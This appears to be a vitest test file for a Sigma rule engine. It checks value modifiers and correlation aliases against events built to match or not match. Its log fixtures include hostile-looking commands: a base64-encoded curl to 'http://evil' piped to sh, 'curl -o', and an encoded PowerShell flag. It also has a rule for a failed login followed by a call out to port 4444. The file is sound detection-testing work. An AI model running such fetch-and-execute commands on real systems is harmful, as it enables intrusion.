/**
 * Sigma 2.x value modifiers (appendix "Sigma Modifiers") and correlation aliases, each on
 * an event it must match and one it must not.
 */
import { describe, expect, it } from 'vitest';
import { parseMapping, RuleBook, type RuleHit } from '../detector/index.js';
import { resolveValidationOptions, validateInput, type VigilEvent } from '../events/index.js';

const T0 = Date.UTC(2026, 11, 7, 3, 15, 0);
const validation = resolveValidationOptions({ now: () => T0 + 86_400_000 });
let n = 0;

function ev(input: Record<string, unknown>): VigilEvent {
  const r = validateInput({ ts: T0, ...input }, validation);
  if (!r.ok) throw new Error(r.rejection.message);
  return r.event;
}
const line = (message: string, app = 'app', extra: Record<string, unknown> = {}): VigilEvent => ev({ kind: 'log', host: 'h1', app, message, seq: ++n, ...extra });

/** Whether a one-selection rule with `selection` (YAML flow map or block) matches `e`. */
function fires(selection: string, e: VigilEvent, book = new RuleBook()): boolean {
  const [id] = book.add(`title: t\nid: t-${++n}\nlogsource: { product: vigil, service: '${e.vigil.kind}' }\ndetection:\n  selection:\n${selection.replace(/^/gm, '    ')}\n  condition: selection\n`);
  const hits: RuleHit[] = [];
  book.evaluate({ event: e }, 0, hits);
  return hits.some((h) => h.rule.id === id);
}

describe('Sigma modifiers', () => {
  it('|all on keywords needs every word; on a field, every value', () => {
    expect(fires(`'|all': [BGP, MD5, failed]`, line('BGP peer 10.0.0.1 MD5 authentication failed'))).toBe(true);
    expect(fires(`'|all': [BGP, MD5, failed]`, line('BGP peer 10.0.0.1 MD5 authentication ok'))).toBe(false);
    expect(fires(`message|contains|all: [curl, '-o']`, line('curl -o /tmp/x http://a'))).toBe(true);
    expect(fires(`message|contains|all: [curl, '-o']`, line('curl http://a'))).toBe(false);
  });

  it('|windash accepts -, /, and the dashes of Unicode for a flag', () => {
    expect(fires(`message|windash|contains: ' -enc '`, line('powershell /enc AAAA'))).toBe(true);
    expect(fires(`message|windash|contains: ' -enc '`, line('powershell \u2013enc AAAA'.replace('\u2013', ' \u2013')))).toBe(true);
    expect(fires(`message|windash|contains: ' -enc '`, line('powershell +enc AAAA'))).toBe(false);
  });

  it('|base64offset|contains finds a word inside base64 at any of the three offsets', () => {
    for (const pre of ['', 'x', 'xy']) {
      const encoded = Buffer.from(`${pre}curl http://evil`).toString('base64');
      expect(fires(`message|base64offset|contains: 'http://'`, line(`echo ${encoded} | base64 -d | sh`))).toBe(true);
    }
    expect(fires(`message|base64offset|contains: 'http://'`, line(`echo ${Buffer.from('wget ftp://x').toString('base64')}`))).toBe(false);
    expect(fires(`message|base64|contains: 'whoami'`, line(`run d2hvYW1p now`))).toBe(true);
  });

  it('|re with an inline (?i) flag, and the i sub-modifier', () => {
    expect(fires(`message|re: '(?i)ipfs\\.io/.+@'`, line('GET https://IPFS.io/x/a@b.c'))).toBe(true);
    expect(fires(`message|re: 'ipfs\\.io/.+@'`, line('GET https://IPFS.io/x/a@b.c'))).toBe(false);
    expect(fires(`message|re|i: 'ipfs\\.io/.+@'`, line('GET https://IPFS.io/x/a@b.c'))).toBe(true);
  });

  it('|neq, |cidr, |gt, |exists and |fieldref on a flow', () => {
    const flow = ev({ kind: 'net', device: 'gw', src: '10.4.0.9', dst: '198.51.100.7', dport: 23, sport: 23, proto: 'tcp', bytes: 600, packets: 3 });
    expect(fires(`destination.ip|cidr: 198.51.100.0/24`, flow)).toBe(true);
    expect(fires(`destination.ip|cidr: 10.0.0.0/8`, flow)).toBe(false);
    expect(fires(`destination.port|neq: 22`, flow)).toBe(true);
    expect(fires(`destination.port|neq: [22, 23]`, flow)).toBe(false);
    expect(fires(`network.bytes|gt: 500`, flow)).toBe(true);
    expect(fires(`network.bytes|lt: 500`, flow)).toBe(false);
    expect(fires(`source.port|exists: true`, flow)).toBe(true);
    expect(fires(`user.name|exists: true`, flow)).toBe(false);
    expect(fires(`source.port|fieldref: destination.port`, flow)).toBe(true);
    expect(fires(`source.port|fieldref|neq: destination.port`, flow)).toBe(false);
  });

  it('|expand takes the values a mapping configures, and an unconfigured placeholder is refused', () => {
    const site = parseMapping(`name: site\nversion: 1\nlogsources: []\nplaceholders:\n  admins: [root, ops]\n`);
    const book = new RuleBook({ mappings: [site] });
    const login = (user: string): VigilEvent => ev({ kind: 'auth', device: 'cam', user, outcome: 'success', seq: ++n });
    expect(fires(`user.name|expand: '%admins%'`, login('ops'), book)).toBe(true);
    expect(fires(`user.name|expand: '%admins%'`, login('guest'), book)).toBe(false);
    expect(() => fires(`user.name|expand: '%nobody%'`, login('ops'))).toThrow(/placeholder %nobody% is not configured/);
  });

  it('date parts: |hour reads the event time (UTC)', () => {
    expect(fires(`'@timestamp|hour': 3`, line('x'))).toBe(true);
    expect(fires(`'@timestamp|hour|gte': 8`, line('x'))).toBe(false);
  });

  it('an unknown modifier is refused with its name', () => {
    expect(() => fires(`message|sounds_like: x`, line('x'))).toThrow(/unknown modifier "sounds_like"/);
  });
});

describe('correlation aliases', () => {
  it('group by one address that is the source of failed logins and then the destination of a device\'s flow (a guessed login calling home)', () => {
    const book = new RuleBook();
    book.add(`title: failed login\nname: failed_login\nlogsource: { product: vigil, service: auth }\ndetection:\n  s: { event.outcome: failure }\n  condition: s\n`);
    book.add(`title: outbound flow\nname: outbound_flow\nlogsource: { product: vigil, service: net }\ndetection:\n  s: { destination.port: 4444 }\n  condition: s\n`);
    const [id] = book.add(`title: guessed, then called home
correlation:
  type: temporal_ordered
  rules: [failed_login, outbound_flow]
  group-by: [peer]
  timespan: 1m
  aliases:
    peer:
      failed_login: source.ip
      outbound_flow: destination.ip
`);
    const flow = (dst: string): VigilEvent => ev({ kind: 'net', device: 'cam', src: '10.9.0.1', dst, dport: 4444, sport: 4000 + ++n, proto: 'tcp', bytes: 60, packets: 1 });
    const fail = (src: string): VigilEvent => ev({ kind: 'auth', device: 'cam', user: 'root', outcome: 'failure', src, seq: ++n });
    const run = (events: VigilEvent[]): RuleHit[] => {
      const hits: RuleHit[] = [];
      for (const e of events) book.evaluate({ event: e }, 0, hits);
      return hits.filter((h) => h.rule.id === id && !h.continuing);
    };
    expect(run([fail('203.0.113.6'), flow('203.0.113.5')])).toHaveLength(0);
    expect(run([fail('203.0.113.7'), flow('203.0.113.7')])).toHaveLength(1);
    expect(() => book.add(`title: bad alias\ncorrelation:\n  type: temporal\n  rules: [outbound_flow, failed_login]\n  group-by: [x]\n  timespan: 1m\n  aliases: { x: { nosuchrule: source.ip } }\n`)).toThrow(/alias names nosuchrule/);
  });
});
